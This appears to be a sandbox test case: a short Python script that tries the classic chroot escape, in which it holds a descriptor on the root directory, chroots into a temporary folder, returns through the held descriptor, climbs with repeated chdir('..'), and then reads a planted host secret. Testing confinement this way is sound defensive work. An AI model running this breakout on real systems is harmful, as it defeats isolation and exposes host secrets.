# attack: the classic break-out: keep a folder open, chroot below it, walk up
# success: the secret of the host is printed
import os
from support.raw import bait, got, say

root = os.open("/", os.O_RDONLY)
try:
    os.mkdir(os.environ["TMPDIR"] + "/below")
    os.chroot(os.environ["TMPDIR"] + "/below")
    got("chroot")
    os.fchdir(root)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    say(error)
try:
    say(open(bait("SECRET")).read())
except OSError as error:
    say(error)
